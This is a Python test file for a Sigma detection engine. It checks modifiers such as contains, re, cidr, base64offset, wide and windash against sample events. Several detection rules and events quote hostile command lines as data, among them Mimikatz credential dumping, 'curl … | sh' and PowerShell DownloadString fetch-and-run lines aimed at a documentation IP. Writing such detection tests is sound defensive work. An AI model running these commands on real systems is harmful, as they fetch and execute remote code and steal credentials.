"""Sigma value modifiers, one by one, in pySigma's style: an inline rule, events, which of them match.

The semantics are those of the Sigma specification (appendix "Sigma Modifiers") as pySigma 1.5.1 builds
them (``sigma/modifiers.py``): ``base64offset`` expands into three variants, ``windash`` into five dash
characters, ``re`` is case-sensitive unless ``|i``, ``exists`` takes a boolean, and so on. Where pySigma
1.5.1 departs from the specification (it has no ``utf16le``; its ``utf16`` writes the byte order mark
as UTF-8) the tests follow the specification and say so.
"""

from __future__ import annotations

from base64 import b64encode
from datetime import UTC, datetime
from typing import Any

import pytest
from tests.detection.sigma_support import hits, sigma

from vigil.detection.sigma import Engine, RuleError


def b64(data: bytes) -> str:
    return b64encode(data).decode()


# --- contains, startswith, endswith, all ---------------------------------------------------------


def test_contains_finds_the_value_anywhere_ignoring_case() -> None:
    detection = """
        selection:
            CommandLine|contains: 'sekurlsa::logonpasswords'
        condition: selection
    """
    events = {
        "middle": {"CommandLine": r"C:\t\m.exe privilege::debug sekurlsa::logonpasswords exit"},
        "upper": {"CommandLine": "SEKURLSA::LOGONPASSWORDS"},
        "second_line": {"CommandLine": "m.exe\nsekurlsa::logonpasswords"},
        "split": {"CommandLine": "sekurlsa:: logonpasswords"},
        "other_field": {"Image": "sekurlsa::logonpasswords"},
        "empty": {},
    }
    assert hits(detection, events) == {"middle", "upper", "second_line"}


def test_contains_with_a_list_matches_any_value() -> None:
    detection = """
        selection:
            CommandLine|contains:
                - ' -enc '
                - ' -encodedcommand '
        condition: selection
    """
    events = {
        "first": {"CommandLine": "powershell -enc ZQBjAGgAbwA="},
        "second": {"CommandLine": "powershell -EncodedCommand ZQBjAGgAbwA="},
        "neither": {"CommandLine": "powershell -File a.ps1"},
    }
    assert hits(detection, events) == {"first", "second"}


def test_startswith_anchors_at_the_beginning() -> None:
    detection = r"""
        selection:
            Image|startswith: 'C:\Users\Public\'
        condition: selection
    """
    events = {
        "inside": {"Image": r"C:\Users\Public\evil.exe"},
        "other_case": {"Image": r"c:\users\public\Downloads\x.exe"},
        "not_at_start": {"Image": r"D:\C:\Users\Public\evil.exe"},
        "sibling": {"Image": r"C:\Users\PublicData\evil.exe"},
    }
    assert hits(detection, events) == {"inside", "other_case"}


def test_endswith_anchors_at_the_end() -> None:
    detection = r"""
        selection:
            Image|endswith: '\rundll32.exe'
        condition: selection
    """
    events = {
        "system": {"Image": r"C:\Windows\System32\rundll32.exe"},
        "upper": {"Image": r"C:\WINDOWS\SYSWOW64\RUNDLL32.EXE"},
        "suffix_after": {"Image": r"C:\Windows\System32\rundll32.exe.bak"},
        "no_backslash": {"Image": r"C:\Temp\notrundll32.exe"},
    }
    assert hits(detection, events) == {"system", "upper"}


def test_contains_all_needs_every_value_in_any_order() -> None:
    detection = """
        selection:
            CommandLine|contains|all:
                - '-nop'
                - '-w hidden'
                - 'downloadstring'
        condition: selection
    """
    events = {
        "all_three": {"CommandLine": "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('x')"},
        "other_order": {"CommandLine": "powershell -c DownloadString('x') -W Hidden -NoP"},
        "two_of_three": {"CommandLine": "powershell -nop -w hidden -c Get-Date"},
    }
    assert hits(detection, events) == {"all_three", "other_order"}


def test_all_without_contains_needs_every_value_to_equal_the_field() -> None:
    # Two different exact values can never both equal one scalar; one element each in a list can.
    detection = """
        selection:
            Tags|all:
                - 'alpha'
                - 'beta'
        condition: selection
    """
    events = {
        "list_with_both": {"Tags": ["beta", "gamma", "alpha"]},
        "list_with_one": {"Tags": ["alpha", "gamma"]},
        "scalar": {"Tags": "alpha"},
    }
    assert hits(detection, events) == {"list_with_both"}


# --- re and its flags ------------------------------------------------------------------------------


def test_re_searches_anywhere_and_is_case_sensitive() -> None:
    detection = r"""
        selection:
            CommandLine|re: 'cmd\.exe /c .*whoami'
        condition: selection
    """
    events = {
        "inside": {"CommandLine": r"C:\Windows\system32\cmd.exe /c echo x & whoami /all"},
        "other_case": {"CommandLine": r"C:\Windows\system32\CMD.EXE /C WHOAMI"},
        "dot_is_escaped": {"CommandLine": "cmdxexe /c whoami"},
    }
    assert hits(detection, events) == {"inside"}


def test_re_anchors_are_honoured() -> None:
    detection = """
        selection:
            User|re: '^adm[0-9]+$'
        condition: selection
    """
    events = {
        "whole": {"User": "adm42"},
        "prefix_before": {"User": "xadm42"},
        "suffix_after": {"User": "adm42x"},
    }
    assert hits(detection, events) == {"whole"}


def test_re_i_flag_ignores_case() -> None:
    detection = r"""
        selection:
            CommandLine|re|i: 'cmd\.exe /c .*whoami'
        condition: selection
    """
    events = {
        "lower": {"CommandLine": "cmd.exe /c whoami"},
        "upper": {"CommandLine": "CMD.EXE /C WHOAMI"},
        "different": {"CommandLine": "cmd.exe /c hostname"},
    }
    assert hits(detection, events) == {"lower", "upper"}


@pytest.mark.parametrize(("modifiers", "expected"), [("|re", set()), ("|re|m", {"multiline"})])
def test_re_m_flag_makes_anchors_match_at_each_line(modifiers: str, expected: set[str]) -> None:
    detection = f"""
        selection:
            ScriptBlockText{modifiers}: '^Invoke-Mimikatz$'
        condition: selection
    """
    events = {
        "multiline": {"ScriptBlockText": "Import-Module .\\m.ps1\nInvoke-Mimikatz\nexit"},
        "same_line": {"ScriptBlockText": "Import-Module .\\m.ps1; Invoke-Mimikatz; exit"},
    }
    assert hits(detection, events) == expected


@pytest.mark.parametrize(("modifiers", "expected"), [("|re", set()), ("|re|s", {"newline_between"})])
def test_re_s_flag_lets_the_dot_match_newlines(modifiers: str, expected: set[str]) -> None:
    detection = f"""
        selection:
            ScriptBlockText{modifiers}: 'FromBase64String.+Invoke-Expression'
        condition: selection
    """
    events = {
        "newline_between": {"ScriptBlockText": "$b = [Convert]::FromBase64String($p)\nInvoke-Expression $b"},
        "other_text": {"ScriptBlockText": "Get-Date\nGet-Process"},
    }
    assert hits(detection, events) == expected


def test_re_flags_combine() -> None:
    detection = """
        selection:
            ScriptBlockText|re|i|m|s: '^invoke-webrequest.+outfile$'
        condition: selection
    """
    events = {
        "all_flags_needed": {"ScriptBlockText": "$x = 1\nINVOKE-WEBREQUEST http://x\n-OutFile\nrest"},
        "missing_outfile": {"ScriptBlockText": "$x = 1\nINVOKE-WEBREQUEST http://x\n"},
    }
    assert hits(detection, events) == {"all_flags_needed"}


# --- cidr ------------------------------------------------------------------------------------------


def test_cidr_ipv4_matches_addresses_in_the_network_only() -> None:
    detection = """
        selection:
            DestinationIp|cidr: '10.0.0.0/8'
        condition: selection
    """
    events = {
        "inside": {"DestinationIp": "10.1.2.3"},
        "edge": {"DestinationIp": "10.255.255.255"},
        "same_prefix_text": {"DestinationIp": "100.1.2.3"},
        "outside": {"DestinationIp": "11.0.0.1"},
        "not_an_ip": {"DestinationIp": "10.example.org"},
        "empty": {"DestinationIp": ""},
        "number": {"DestinationIp": 10},
        "missing": {},
    }
    assert hits(detection, events) == {"inside", "edge"}


def test_cidr_ipv4_off_an_octet_boundary() -> None:
    detection = """
        selection:
            DestinationIp|cidr: '172.16.0.0/12'
        condition: selection
    """
    events = {
        "low": {"DestinationIp": "172.16.0.1"},
        "high": {"DestinationIp": "172.31.255.254"},
        "above": {"DestinationIp": "172.32.0.1"},
        "below": {"DestinationIp": "172.15.255.255"},
    }
    assert hits(detection, events) == {"low", "high"}


def test_cidr_single_host_is_not_a_prefix() -> None:
    detection = """
        selection:
            SourceIp|cidr: '192.168.1.10/32'
        condition: selection
    """
    events = {"host": {"SourceIp": "192.168.1.10"}, "longer": {"SourceIp": "192.168.1.100"}}
    assert hits(detection, events) == {"host"}


def test_cidr_ipv6() -> None:
    detection = """
        selection:
            DestinationIp|cidr: '2001:db8::/32'
        condition: selection
    """
    events = {
        "inside": {"DestinationIp": "2001:db8::1"},
        "inside_upper": {"DestinationIp": "2001:DB8:FFFF::1"},
        "inside_uncompressed": {"DestinationIp": "2001:0db8:0000:0000:0000:0000:0000:0001"},
        "outside": {"DestinationIp": "2001:db9::1"},
        "link_local": {"DestinationIp": "fe80::1"},
        "ipv4": {"DestinationIp": "10.0.0.1"},
        "not_an_ip": {"DestinationIp": "2001:db8:zz::1"},
    }
    assert hits(detection, events) == {"inside", "inside_upper", "inside_uncompressed"}


def test_cidr_list_matches_any_network() -> None:
    detection = """
        selection:
            DestinationIp|cidr:
                - '127.0.0.0/8'
                - '::1/128'
        condition: selection
    """
    events = {
        "v4_loopback": {"DestinationIp": "127.0.0.53"},
        "v6_loopback": {"DestinationIp": "::1"},
        "public": {"DestinationIp": "8.8.8.8"},
    }
    assert hits(detection, events) == {"v4_loopback", "v6_loopback"}


# --- base64, base64offset --------------------------------------------------------------------------


def test_base64_matches_the_encoded_value_as_a_whole() -> None:
    # pySigma: base64 encodes the value; without contains the field must equal the encoding.
    detection = """
        selection:
            Payload|base64: 'whoami /all'
        condition: selection
    """
    encoded = b64(b"whoami /all")
    events = {
        "encoded": {"Payload": encoded},
        "embedded": {"Payload": f"x {encoded} y"},
        "plain": {"Payload": "whoami /all"},
    }
    assert hits(detection, events) == {"encoded"}


def test_base64_contains_finds_the_encoding_inside() -> None:
    detection = """
        selection:
            CommandLine|base64|contains: 'whoami /all'
        condition: selection
    """
    events = {
        "embedded": {"CommandLine": f"tool.exe --data {b64(b'whoami /all')} --run"},
        "plain": {"CommandLine": "tool.exe whoami /all"},
    }
    assert hits(detection, events) == {"embedded"}


@pytest.mark.parametrize("offset", [0, 1, 2])
def test_base64offset_contains_finds_the_value_at_each_offset(offset: int) -> None:
    detection = """
        selection:
            CommandLine|base64offset|contains: 'http://'
        condition: selection
    """
    blob = b64(b"curl "[:offset] + b"http://198.51.100.7/stage2 | sh")
    events = {
        "encoded": {"CommandLine": f"bash -c \"echo {blob} | base64 -d | bash\""},
        "plain": {"CommandLine": "bash -c 'curl http://198.51.100.7/stage2 | sh'"},
        "other_encoded": {"CommandLine": f"bash -c \"echo {b64(b'ftp://198.51.100.7/stage2')} | base64 -d\""},
    }
    assert hits(detection, events) == {"encoded"}


@pytest.mark.parametrize("prefix", ["", "G", "GE"])
def test_base64offset_of_an_escaped_wildcard_encodes_the_character_itself(prefix: str) -> None:
    # "\?" is a literal question mark (a URL's query), so the encoding is that of "?", without the backslash.
    # (pySigma 1.5.1 encodes its to_plain() text, which escapes the mark again, and trims by the wrong length.)
    detection = r"""
        selection:
            Payload|base64offset|contains: 'index.php\?id='
        condition: selection
    """
    events = {
        "query": {"Payload": b64(prefix.encode() + b"T /index.php?id=1")},
        "backslash": {"Payload": b64(prefix.encode() + b"T /index.php\\?id=1")},
        "other_page": {"Payload": b64(prefix.encode() + b"T /home.php?id=1")},
    }
    assert hits(detection, events) == {"query"}


def test_base64_of_an_escaped_star() -> None:
    detection = r"""
        selection:
            Payload|base64: 'SELECT \* FROM users'
        condition: selection
    """
    events = {"star": {"Payload": b64(b"SELECT * FROM users")}, "backslash": {"Payload": b64(b"SELECT \\* FROM users")}}
    assert hits(detection, events) == {"star"}


# --- wide / utf16le / utf16be / utf16 (the PowerShell -EncodedCommand case) -------------------------

POWERSHELL_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"


@pytest.mark.parametrize("prefix", ["", "$", "$a"])  # 0, 2 and 4 bytes of UTF-16: all three base64 offsets
@pytest.mark.parametrize("encoding_modifier", ["wide", "utf16le"])  # utf16le: the spec's name (not in pySigma 1.5.1)
def test_wide_base64offset_finds_a_powershell_encoded_command(encoding_modifier: str, prefix: str) -> None:
    detection = f"""
        selection:
            CommandLine|{encoding_modifier}|base64offset|contains: 'DownloadString'
        condition: selection
    """
    events = {
        "encoded_command": {
            "CommandLine": "powershell.exe -NoP -EncodedCommand " + b64((prefix + POWERSHELL_SCRIPT).encode("utf-16le"))
        },
        "utf8_not_wide": {"CommandLine": "powershell.exe -NoP -EncodedCommand " + b64(POWERSHELL_SCRIPT.encode())},
        "plain": {"CommandLine": "powershell.exe -NoP -Command " + POWERSHELL_SCRIPT},
    }
    assert hits(detection, events) == {"encoded_command"}


@pytest.mark.parametrize("word", ["пароль", "café", "密码"])
def test_wide_base64offset_of_non_ascii_text(word: str) -> None:
    # Specification: utf16le/wide "transforms value to UTF16-LE encoding", whatever the characters. pySigma
    # 1.5.1 refuses "é" and garbles "п" (its UTF-16LE bytes 3F 04 hold a "?", which it escapes).
    detection = f"""
        selection:
            ScriptBlockText|wide|base64offset|contains: '{word}'
        condition: selection
    """
    events = {
        "encoded": {"ScriptBlockText": b64(f"$p = '{word}'".encode("utf-16-le"))},
        "utf8": {"ScriptBlockText": b64(f"$p = '{word}'".encode())},
    }
    assert hits(detection, events) == {"encoded"}


def test_wide_without_base64_matches_the_utf16le_text() -> None:
    detection = """
        selection:
            Data|wide|contains: 'cmd'
        condition: selection
    """
    events = {
        "utf16le_text": {"Data": "run c\x00m\x00d\x00 now"},
        "plain": {"Data": "run cmd now"},
    }
    assert hits(detection, events) == {"utf16le_text"}


@pytest.mark.parametrize("prefix", ["", "$", "$a"])
def test_utf16be_base64offset(prefix: str) -> None:
    detection = """
        selection:
            Payload|utf16be|base64offset|contains: 'DownloadString'
        condition: selection
    """
    # (No little-endian negative: shifted by one byte, UTF-16LE text of ASCII contains the UTF-16BE bytes.)
    events = {
        "big_endian": {"Payload": b64((prefix + POWERSHELL_SCRIPT).encode("utf-16-be"))},
        "utf8": {"Payload": b64((prefix + POWERSHELL_SCRIPT).encode())},
        "plain": {"Payload": prefix + POWERSHELL_SCRIPT},
    }
    assert hits(detection, events) == {"big_endian"}


def test_utf16_puts_the_byte_order_mark_first() -> None:
    # Specification: utf16 is "FF FE" then UTF-16LE ("cmd" > FF FE 63 00 6d 00 64 00). pySigma 1.5.1
    # writes the mark as U+FEFF in UTF-8 (EF BB BF), which no UTF-16 text starts with.
    detection = """
        selection:
            Payload|utf16|base64offset|contains: 'IEX'
        condition: selection
    """
    events = {
        "with_bom": {"Payload": b64(b"\xff\xfe" + POWERSHELL_SCRIPT.encode("utf-16-le"))},
        "without_bom": {"Payload": b64(POWERSHELL_SCRIPT.encode("utf-16-le"))},
    }
    assert hits(detection, events) == {"with_bom"}


# --- windash ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "dash",
    ["-", "/", "\u2013", "\u2014", "\u2015"],
    ids=["hyphen", "slash", "en_dash", "em_dash", "horizontal_bar"],
)
@pytest.mark.parametrize("modifiers", ["|windash|contains", "|contains|windash"])
def test_windash_accepts_every_dash_variant(modifiers: str, dash: str) -> None:
    detection = f"""
        selection:
            CommandLine{modifiers}: ' -exec bypass'
        condition: selection
    """
    events = {
        "variant": {"CommandLine": f"powershell.exe {dash}exec bypass -f a.ps1"},
        "no_dash": {"CommandLine": "powershell.exe exec bypass -f a.ps1"},
        "underscore": {"CommandLine": "powershell.exe _exec bypass -f a.ps1"},
    }
    assert hits(detection, events) == {"variant"}


def test_windash_expands_a_slash_in_the_rule_too() -> None:
    detection = """
        selection:
            CommandLine|windash|contains: ' /c '
        condition: selection
    """
    events = {
        "slash": {"CommandLine": "cmd.exe /c whoami"},
        "hyphen": {"CommandLine": "cmd.exe -c whoami"},
        "none": {"CommandLine": "cmd.exe c whoami"},
    }
    assert hits(detection, events) == {"slash", "hyphen"}


def test_windash_leaves_a_dash_inside_a_word_alone() -> None:
    # pySigma replaces only a dash at the start of a word (regex \B[-/]\b): "Net-Tool" keeps its hyphen.
    detection = """
        selection:
            Image|windash: 'Net-Tool'
        condition: selection
    """
    events = {"hyphen": {"Image": "Net-Tool"}, "slash": {"Image": "Net/Tool"}}
    assert hits(detection, events) == {"hyphen"}


# --- exists ----------------------------------------------------------------------------------------


def test_exists_true_and_false() -> None:
    detection_true = """
        selection:
            PasswordLastSet|exists: true
        condition: selection
    """
    detection_false = """
        selection:
            PasswordLastSet|exists: false
        condition: selection
    """
    events = {
        "value": {"EventID": 4738, "PasswordLastSet": "2026-01-02 10:00:00"},
        "empty": {"EventID": 4738, "PasswordLastSet": ""},
        "zero": {"EventID": 4738, "PasswordLastSet": 0},
        "absent": {"EventID": 4738},
    }
    assert hits(detection_true, events) == {"value", "empty", "zero"}
    assert hits(detection_false, events) == {"absent"}


def test_exists_is_about_presence_not_value() -> None:
    # Specification: "this check only verifies the presence of a field, not its value, be it empty or null".
    detection = """
        selection:
            PasswordLastSet|exists: true
        condition: selection
    """
    assert hits(detection, {"null": {"PasswordLastSet": None}, "absent": {}}) == {"null"}


def test_exists_on_a_nested_field() -> None:
    detection = """
        selection:
            url.original|exists: true
        condition: selection
    """
    events = {
        "nested": {"url": {"original": "/index.html"}},
        "other_key": {"url": {"path": "/index.html"}},
        "not_a_map": {"url": "/index.html"},
    }
    assert hits(detection, events) == {"nested"}


# --- fieldref --------------------------------------------------------------------------------------


def test_fieldref_compares_two_fields() -> None:
    detection = """
        selection:
            TargetUserName|fieldref: SubjectUserName
        condition: selection
    """
    events = {
        "same": {"TargetUserName": "bob", "SubjectUserName": "bob"},
        "different": {"TargetUserName": "bob", "SubjectUserName": "alice"},
        "reference_missing": {"TargetUserName": "bob"},
        "both_missing": {},
    }
    assert hits(detection, events) == {"same"}


def test_fieldref_startswith() -> None:
    detection = """
        selection:
            CommandLine|fieldref|startswith: Image
        condition: selection
    """
    events = {
        "unquoted": {"Image": r"C:\Tools\a.exe", "CommandLine": r"C:\Tools\a.exe -x"},
        "quoted": {"Image": r"C:\Tools\a.exe", "CommandLine": r'"C:\Tools\a.exe" -x'},
    }
    assert hits(detection, events) == {"unquoted"}


def test_fieldref_endswith() -> None:
    detection = """
        selection:
            Image|fieldref|endswith: OriginalFileName
        condition: selection
    """
    events = {
        "same_name": {"Image": r"C:\Windows\System32\cmd.exe", "OriginalFileName": "cmd.exe"},
        "renamed": {"Image": r"C:\Temp\svc.exe", "OriginalFileName": "cmd.exe"},
    }
    assert hits(detection, events) == {"same_name"}


def test_fieldref_contains() -> None:
    detection = """
        selection:
            CommandLine|fieldref|contains: TargetUserName
        condition: selection
    """
    events = {
        "inside": {"CommandLine": "net user mallory P@ss /add", "TargetUserName": "mallory"},
        "absent": {"CommandLine": "net user bob P@ss /add", "TargetUserName": "mallory"},
        # The referenced value is data, not a pattern: its "*" is no wildcard.
        "star_in_data": {"CommandLine": "net user bob", "TargetUserName": "*"},
    }
    assert hits(detection, events) == {"inside"}


# --- gt, gte, lt, lte ------------------------------------------------------------------------------

COMPARED_VALUES: dict[str, Any] = {
    "int_4": 4, "int_5": 5, "int_6": 6, "int_10": 10, "str_4": "4", "str_5": "5", "str_6": "6", "str_10": "10",
    "float_5_5": 5.5, "str_5_5": "5.5", "negative": -3, "text": "abc", "empty": "", "null": None,
}


@pytest.mark.parametrize(
    ("modifier", "expected"),
    [
        ("gt", {"int_6", "int_10", "str_6", "str_10", "float_5_5", "str_5_5"}),
        ("gte", {"int_5", "int_6", "int_10", "str_5", "str_6", "str_10", "float_5_5", "str_5_5"}),
        ("lt", {"int_4", "str_4", "negative"}),
        ("lte", {"int_4", "int_5", "str_4", "str_5", "negative"}),
    ],
)
def test_numeric_comparison(modifier: str, expected: set[str]) -> None:
    # Numbers compare as numbers ("10" > 5 although "10" < "5" as text); what is no number never matches.
    detection = f"""
        selection:
            Count|{modifier}: 5
        condition: selection
    """
    events: dict[str, dict[str, Any]] = {name: {"Count": value} for name, value in COMPARED_VALUES.items()}
    events["missing"] = {}
    assert hits(detection, events) == expected


def test_numeric_comparison_with_a_fraction() -> None:
    detection = """
        selection:
            Entropy|gte: 7.5
        condition: selection
    """
    events = {"high": {"Entropy": 7.9}, "equal_text": {"Entropy": "7.5"}, "low": {"Entropy": 7.49}}
    assert hits(detection, events) == {"high", "equal_text"}


def test_numeric_comparison_is_exact_for_big_integers() -> None:
    # 2**53 + 1 is not a float: comparing through floats would make 2**53 "not less" than it.
    detection = """
        selection:
            LogonId|lt: 9007199254740993
        condition: selection
    """
    events = {
        "one_less_int": {"LogonId": 9007199254740992},
        "one_less_text": {"LogonId": "9007199254740992"},
        "equal": {"LogonId": 9007199254740993},
    }
    assert hits(detection, events) == {"one_less_int", "one_less_text"}


# --- cased -----------------------------------------------------------------------------------------


def test_cased_matches_exactly_this_case() -> None:
    detection = r"""
        selection:
            Image|cased: 'C:\Windows\System32\cmd.exe'
        condition: selection
    """
    events = {
        "same": {"Image": r"C:\Windows\System32\cmd.exe"},
        "lower": {"Image": r"c:\windows\system32\cmd.exe"},
    }
    assert hits(detection, events) == {"same"}


@pytest.mark.parametrize("modifiers", ["|contains|cased", "|cased|contains"])
def test_cased_with_contains(modifiers: str) -> None:
    detection = f"""
        selection:
            ScriptBlockText{modifiers}: 'Invoke-Mimikatz'
        condition: selection
    """
    events = {
        "same_case": {"ScriptBlockText": "Import-Module x; Invoke-Mimikatz -DumpCreds"},
        "lower_case": {"ScriptBlockText": "import-module x; invoke-mimikatz -dumpcreds"},
    }
    assert hits(detection, events) == {"same_case"}


# --- expand ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("modifiers", "value"),
    [("|expand", "%Administrators%"), ("|expand|contains", "%Administrators%"), ("|re|expand", "^%Administrators%$")],
)
def test_expand_placeholder_without_values_is_rejected(modifiers: str, value: str) -> None:
    # Specification: "If the tool isn't able to handle placeholders, it must reject the rule." pySigma
    # keeps a Placeholder (in a string or a regular expression) and refuses to convert it.
    detection = f"""
        selection:
            SubjectUserName{modifiers}: '{value}'
        condition: selection
    """
    with pytest.raises(RuleError) as caught:
        Engine([sigma(detection)])
    assert "Administrators" in str(caught.value)


def test_percent_signs_without_expand_are_literal() -> None:
    detection = """
        selection:
            SubjectUserName: '%Administrators%'
        condition: selection
    """
    events = {"literal": {"SubjectUserName": "%administrators%"}, "admin": {"SubjectUserName": "Administrator"}}
    assert hits(detection, events) == {"literal"}


# --- neq (specification 2.1, pySigma 1.5.1) --------------------------------------------------------


def test_neq_matches_other_values() -> None:
    detection = """
        selection:
            EventID: 4624
            LogonType|neq: 3
        condition: selection
    """
    events = {
        "interactive": {"EventID": 4624, "LogonType": 2},
        "network": {"EventID": 4624, "LogonType": 3},
        "network_text": {"EventID": 4624, "LogonType": "3"},
    }
    assert hits(detection, events) == {"interactive"}


def test_neq_with_a_list_excludes_every_value() -> None:
    # pySigma negates the whole or-linked list: NOT (User = a OR User = b), not (User != a) OR (User != b).
    detection = """
        selection:
            User|neq:
                - 'SYSTEM'
                - 'LOCAL SERVICE'
        condition: selection
    """
    events = {
        "other": {"User": "alice"},
        "first": {"User": "system"},
        "second": {"User": "LOCAL SERVICE"},
        # pySigma's SQLite backend: NOT COALESCE(User = ..., 0), so an absent field is "different".
        "absent": {},
    }
    assert hits(detection, events) == {"other", "absent"}


@pytest.mark.parametrize("modifiers", ["|fieldref|neq", "|neq|fieldref"])
def test_neq_with_fieldref(modifiers: str) -> None:
    detection = f"""
        selection:
            TargetUserName{modifiers}: SubjectUserName
        condition: selection
    """
    events = {
        "different": {"TargetUserName": "bob", "SubjectUserName": "alice"},
        "same": {"TargetUserName": "bob", "SubjectUserName": "bob"},
    }
    assert hits(detection, events) == {"different"}


# --- expansions stay or-linked under all ---------------------------------------------------------------


def test_windash_with_all_needs_each_value_in_any_dash_form() -> None:
    # pySigma: each value's expansion is an OR group, the groups are linked by all (SigmaExpansion).
    detection = """
        selection:
            CommandLine|windash|contains|all:
                - ' -urlcache '
                - ' -f '
        condition: selection
    """
    events = {
        "mixed_dashes": {"CommandLine": "certutil.exe /urlcache -f http://x a.exe"},
        "all_slashes": {"CommandLine": "certutil.exe /urlcache /f http://x a.exe"},
        "one_missing": {"CommandLine": "certutil.exe /urlcache http://x a.exe"},
    }
    assert hits(detection, events) == {"mixed_dashes", "all_slashes"}


def test_base64offset_with_all_needs_each_value_at_any_offset() -> None:
    detection = """
        selection:
            CommandLine|base64offset|contains|all:
                - 'Net.WebClient'
                - 'DownloadFile'
        condition: selection
    """
    both = b64(b"$c = New-Object Net.WebClient; $c.DownloadFile('http://x', 'a.exe')")
    one = b64(b"$c = New-Object Net.WebClient; $c.DownloadData('http://x')")
    events = {"both": {"CommandLine": f"powershell -e {both}"}, "one": {"CommandLine": f"powershell -e {one}"}}
    assert hits(detection, events) == {"both"}


def test_base64offset_of_non_ascii_text_uses_utf8() -> None:
    detection = """
        selection:
            Payload|base64offset|contains: 'пароль'
        condition: selection
    """
    events = {
        "utf8": {"Payload": b64("мой пароль: 123".encode())},
        "other": {"Payload": b64("мой логин: 123".encode())},
    }
    assert hits(detection, events) == {"utf8"}


# --- more value shapes under modifiers -------------------------------------------------------------------


def test_re_on_a_numeric_field_uses_its_text() -> None:
    detection = """
        selection:
            EventID|re: '^46[0-9]{2}$'
        condition: selection
    """
    events = {"int": {"EventID": 4688}, "str": {"EventID": "4624"}, "other": {"EventID": 4104}}
    assert hits(detection, events) == {"int", "str"}


def test_cidr_on_a_list_of_addresses() -> None:
    detection = """
        selection:
            ResolvedIps|cidr: '10.0.0.0/8'
        condition: selection
    """
    events = {
        "one_private": {"ResolvedIps": ["8.8.8.8", "10.0.0.7"]},
        "all_public": {"ResolvedIps": ["8.8.8.8", "1.1.1.1"]},
    }
    assert hits(detection, events) == {"one_private"}


def test_fieldref_ignores_case_and_reads_nested_fields() -> None:
    detection = """
        selection:
            TargetUserName|fieldref: user.name
        condition: selection
    """
    events = {
        "other_case": {"TargetUserName": "Bob", "user": {"name": "bob"}},
        "different": {"TargetUserName": "Bob", "user": {"name": "alice"}},
    }
    assert hits(detection, events) == {"other_case"}


def test_cased_with_wildcards() -> None:
    detection = r"""
        selection:
            Image|cased: '*\PsExec6?.exe'
        condition: selection
    """
    events = {
        "same_case": {"Image": r"C:\Tools\PsExec64.exe"},
        "lower_case": {"Image": r"C:\Tools\psexec64.exe"},
    }
    assert hits(detection, events) == {"same_case"}


def test_keyword_with_a_regular_expression() -> None:
    detection = """
        keywords:
            '|re': 'sekurlsa::[a-z]+'
        condition: keywords
    """
    events = {
        "in_a_field": {"CommandLine": "m.exe sekurlsa::logonpasswords"},
        "other_case": {"CommandLine": "m.exe SEKURLSA::LOGONPASSWORDS"},
    }
    assert hits(detection, events) == {"in_a_field"}


# --- time modifiers (specification 2.1, pySigma 1.5.1: minute, hour, day, month, year) --------------


@pytest.mark.parametrize(
    ("modifier", "value"),
    [("minute", 4), ("hour", 3), ("day", 2), ("month", 1), ("year", 2026)],
)
def test_time_modifiers_read_a_part_of_a_timestamp(modifier: str, value: int) -> None:
    detection = f"""
        selection:
            UtcTime|{modifier}: {value}
        condition: selection
    """
    events = {
        "match": {"UtcTime": "2026-01-02 03:04:05.678"},
        "iso": {"UtcTime": "2026-01-02T03:04:05Z"},
        "datetime": {"UtcTime": datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)},  # as Vigil's parsers store @timestamp
        "other": {"UtcTime": "2027-11-12 13:14:15.678"},
        "other_datetime": {"UtcTime": datetime(2027, 11, 12, 13, 14, 15, tzinfo=UTC)},
        "not_a_date": {"UtcTime": "yesterday"},
        "bare_number": {"UtcTime": value},
    }
    assert hits(detection, events) == {"match", "iso", "datetime"}
